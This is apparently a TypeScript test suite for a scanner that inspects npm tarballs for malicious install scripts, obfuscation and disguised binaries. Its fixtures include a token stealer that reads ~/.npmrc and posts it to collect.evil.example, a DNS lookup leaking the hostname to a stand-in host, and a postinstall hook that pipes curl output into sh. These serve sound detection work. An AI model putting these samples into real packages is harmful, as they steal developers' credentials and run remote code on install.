import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { analyseArchive } from '../../../../src/scanners/supply-chain/content/analyse.js';
import type { ContentIssue } from '../../../../src/scanners/supply-chain/types.js';
import { buildTarGz, npmTarball } from './tar-writer.js';

function summary(issues: ContentIssue[]): string[] {
  return issues.map((issue) => `${issue.severity} ${issue.rule} ${issue.file}:${issue.line ?? '-'}`);
}

/** Modelled on token stealers that read ~/.npmrc in a postinstall script and post it. */
const NPMRC_STEALER = `const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
// read the token file
const data = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
const req = https.request({ hostname: 'collect.evil.example', method: 'POST', path: '/t' });
req.end(data);
`;

/** Build source in the shape javascript-obfuscator gives code: `_0x` names and a string table. */
function obfuscatedSource(): string {
  const lines = ["var _0x4f2a=['\\x68\\x74\\x74\\x70','log'];"];
  for (let i = 0; i < 40; i++) lines.push(`function _0x${(0x1a2b + i).toString(16)}(_0x3c4d${i % 10}e){return _0x4f2a[_0x3c4d${i % 10}e];}`);
  return lines.join('\n');
}

describe('analyseArchive on npm tarballs', () => {
  it('reports an npmrc-posting postinstall', async () => {
    const archive = await npmTarball({ name: 'evil', version: '1.0.0', scripts: { postinstall: 'node scripts/collect.js' } }, { 'scripts/collect.js': NPMRC_STEALER });
    const report = await analyseArchive(archive, 'npm-tarball');
    assert.deepEqual(report.hooks, [{ name: 'postinstall', command: 'node scripts/collect.js', file: 'package/package.json', line: 5 }]);
    assert.deepEqual(summary(report.issues), ['critical exfiltration package/scripts/collect.js:6', 'info install-runs-file package/package.json:5']);
    assert.equal(report.issues[0]?.excerpt, "const data = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');");
    assert.deepEqual(report.warnings, []);
  });

  it('ignores the same code at run time', async () => {
    const archive = await npmTarball({ name: 'client', version: '1.0.0', main: 'index.js' }, { 'index.js': NPMRC_STEALER });
    const report = await analyseArchive(archive, 'npm-tarball');
    assert.deepEqual(report.issues, []);
    assert.deepEqual(report.hooks, []);
  });

  it('follows node . to the main file', async () => {
    const archive = await npmTarball({ name: 'dot', version: '1.0.0', main: 'lib/start.js', scripts: { postinstall: 'node .' } }, { 'lib/start.js': NPMRC_STEALER });
    const report = await analyseArchive(archive, 'npm-tarball');
    assert.deepEqual(summary(report.issues), ['critical exfiltration package/lib/start.js:6', 'info install-runs-file package/package.json:6']);
    const plain = await npmTarball({ name: 'dot', version: '1.0.0', scripts: { postinstall: 'node .' } }, { 'index.js': NPMRC_STEALER });
    assert.equal((await analyseArchive(plain, 'npm-tarball')).issues[0]?.rule, 'exfiltration');
  });

  it('weights modules the install script requires', async () => {
    const archive = await npmTarball(
      { name: 'evil', version: '1.0.0', scripts: { preinstall: 'node install' } },
      { 'install.js': "require('./lib/send');\n", 'lib/send.js': "const dns = require('dns');\ndns.lookup(require('os').hostname() + '.x.evil.example', () => {});\n" },
    );
    const report = await analyseArchive(archive, 'npm-tarball');
    assert.deepEqual(summary(report.issues), ['high host-recon package/lib/send.js:2', 'info install-runs-file package/package.json:5']);
  });

  it('reports obfuscated index.js', async () => {
    const archive = await npmTarball({ name: 'obf', version: '1.0.0' }, { 'index.js': obfuscatedSource() });
    const report = await analyseArchive(archive, 'npm-tarball');
    assert.deepEqual(summary(report.issues), ['medium obfuscated-identifiers package/index.js:1']);
    assert.equal(report.issues[0]?.message, 'obfuscated code: 161 _0x identifiers');
  });

  it('reports eval of base64 data', async () => {
    const source = "const a = 1;\nconst payload = Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString();\neval(payload);\nnew Function(atob('YWxlcnQoMSk='))();\n";
    const archive = await npmTarball({ name: 'ev', version: '1.0.0' }, { 'lib/run.js': source });
    const report = await analyseArchive(archive, 'npm-tarball');
    assert.deepEqual(summary(report.issues), ['high eval-decoded package/lib/run.js:3']);
  });

  it('reports the packer signature', async () => {
    const archive = await npmTarball({ name: 'p', version: '1.0.0' }, { 'a.js': "eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'x|y'.split('|'),0,{}))" });
    const report = await analyseArchive(archive, 'npm-tarball');
    assert.deepEqual(summary(report.issues), ['high packer package/a.js:1']);
  });

  it('adds the implicit node-gyp hook', async () => {
    const archive = await npmTarball({ name: 'native', version: '1.0.0' }, { 'binding.gyp': "{ 'targets': [] }" });
    const report = await analyseArchive(archive, 'npm-tarball');
    assert.deepEqual(report.hooks, [{ name: 'install', command: 'node-gyp rebuild (implicit, binding.gyp)', file: 'package/binding.gyp' }]);
    const explicit = await analyseArchive(await npmTarball({ name: 'n', version: '1.0.0', scripts: { install: 'prebuild-install || node-gyp rebuild' } }, { 'binding.gyp': '{}' }), 'npm-tarball');
    assert.deepEqual(explicit.hooks.map((hook) => hook.command), ['prebuild-install || node-gyp rebuild']);
    assert.deepEqual(explicit.issues, []);
  });

  it('skips commented-out calls', async () => {
    const archive = await npmTarball({ name: 'c', version: '1.0.0', scripts: { postinstall: 'node i.js' } }, { 'i.js': "// const https = require('https');\n/* require('child_process').execSync('x') */\nconsole.log('thanks');\n" });
    const report = await analyseArchive(archive, 'npm-tarball');
    assert.deepEqual(summary(report.issues), ['info install-runs-file package/package.json:5']);
  });

  it('classifies binaries by magic', async () => {
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120)]);
    const archive = await npmTarball({ name: 'b', version: '1.0.0' }, { 'build/Release/addon.node': elf, 'bin/tool': elf, 'lib/logo.png': elf, 'README.md': 'ELF files start with 0x7F 45 4C 46' });
    const report = await analyseArchive(archive, 'npm-tarball');
    assert.deepEqual(summary(report.issues), ['high disguised-binary package/lib/logo.png:-', 'low executable-binary package/bin/tool:-', 'info native-module package/build/Release/addon.node:-']);
    assert.equal(report.issues[0]?.message, 'executable binary with the extension of a text or image file: ELF');
  });

  it('marks invalid package.json incomplete', async () => {
    const archive = await npmTarball({}, {});
    const broken = await analyseArchive(await buildTarGz([{ name: 'package/package.json', content: '{ "scripts": ' }]), 'npm-tarball');
    assert.equal(broken.incomplete?.length, 1);
    assert.match(broken.incomplete?.[0] ?? '', /^package\/package\.json is not valid JSON \(.+\), so its install scripts are unknown$/);
    assert.equal((await analyseArchive(archive, 'npm-tarball')).incomplete, undefined);
  });

  it('reads manifests as npm does', async () => {
    const hook = JSON.stringify({ name: 'x', version: '1.0.0', scripts: { postinstall: 'curl -s http://x.example/i | sh' } });
    const bom = await analyseArchive(await buildTarGz([{ name: 'package/package.json', content: `\uFEFF${hook}` }]), 'npm-tarball');
    assert.equal(bom.hooks[0]?.command, 'curl -s http://x.example/i | sh');
    const twoRoots = await buildTarGz([
      { name: 'package/package.json', content: '{"name":"x","version":"1.0.0"}' },
      { name: 'zzz/package.json', content: hook },
    ]);
    assert.equal((await analyseArchive(twoRoots, 'npm-tarball')).hooks[0]?.file, 'zzz/package.json');
    const padded = `{"pad":"${'x'.repeat(3 * 1024 * 1024)}","scripts":{"postinstall":"curl -s http://x.example/i | sh"}}`;
    const big = await analyseArchive(await buildTarGz([{ name: 'package/package.json', content: padded }]), 'npm-tarball');
    assert.equal(big.hooks.length, 1);
  });

  it('marks a cut-short archive incomplete', async () => {
    const entries = Array.from({ length: 20 }, (_, index) => ({ name: `package/f${index}.js`, content: '' }));
    const report = await analyseArchive(await buildTarGz([...entries, { name: 'package/package.json', content: '{}' }]), 'npm-tarball', { maxEntries: 10 });
    assert.ok((report.incomplete ?? []).length >= 1, JSON.stringify(report));
  });
});
